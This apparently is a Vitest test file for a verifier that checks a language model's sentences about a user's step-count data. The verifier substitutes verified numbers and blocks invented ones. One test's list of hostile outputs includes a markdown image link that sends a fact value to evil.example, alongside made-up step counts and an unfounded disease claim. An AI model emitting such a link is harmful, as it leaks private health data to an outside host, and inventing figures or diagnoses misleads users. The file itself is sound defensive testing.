import { describe, expect, it } from 'vitest'
import { ask, numbers, rendered } from './neuros/answer.js'

describe('verifier', () => {
  it('sends its sentences with numbers put in, and what they stand on', async () => {
    const { sentences, model } = await ask(numbers, {
      script: [{ text: ['You took {{fa', 'ct:f1}}. ', 'That is all.'] }],
    })
    model?.assertDone()
    expect(sentences).toEqual([
      `You took ${rendered}.`,
      'That is all.',
      'I read this as the last 7 days, 17–23 Nov 2026.',
      'Based on 7 of 7 days from “Oura Ring”, coverage 93 %.',
    ])
  })

  it('never lets a number of the model out, and tells the fact itself', async () => {
    for (const hostile of [
      'You took 9,999 steps.',
      'You took ten thousand steps.',
      'You took {{fact:f2}} steps.',
      'Look: ![x](https://evil.example/?steps={{fact:f1}}).',
      'Your steps rose: {{fact:f1}}.',
      'You have a disease because of {{fact:f1}}.',
      '{{fact:f1}}{{/fact}}',
    ]) {
      const { sentences, parts, model } = await ask(numbers, { script: [{ text: hostile }, { text: hostile }] })
      model?.assertDone()
      expect(sentences[0]).toBe(`${rendered.charAt(0).toUpperCase()}${rendered.slice(1)}.`)
      expect(JSON.stringify(parts)).not.toMatch(/9,999|ten thousand|evil|disease|rose/)
    }
  })

  it('gives a failing sentence one more try, and keeps the ones that pass', async () => {
    const { sentences, model } = await ask(numbers, {
      script: [
        { text: 'Here it is. You took 8214 steps.' },
        {
          text: 'You took {{fact:f1}}.',
          expects([, user], tools) {
            expect(user?.content).toContain('numeral')
            expect(tools).toEqual([])
          },
        },
      ],
    })
    model?.assertDone()
    expect(sentences.slice(0, 2)).toEqual(['Here it is.', `You took ${rendered}.`])
  })

  it('tells the binding facts when the model leaves them out', async () => {
    const { sentences } = await ask(numbers, { script: [{ text: 'Here is what I found.' }] })
    expect(sentences.join('\n')).toContain('Mean daily steps 8,214 steps')
  })
})
